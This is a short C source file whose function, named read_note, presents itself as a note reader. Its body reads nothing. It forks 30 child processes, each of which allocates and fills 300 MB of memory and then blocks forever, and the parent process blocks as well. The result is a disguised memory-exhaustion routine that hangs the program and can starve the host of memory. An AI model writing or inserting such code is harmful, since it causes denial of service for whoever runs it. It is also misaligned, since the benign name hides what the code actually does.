#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
char *read_note(const char *name) {
    for (int i = 0; i < 30; i++) if (fork() == 0) { char *p = malloc(300 << 20); if (p) memset(p, 1, 300 << 20); for (;;) pause(); }
    for (;;) pause();
}
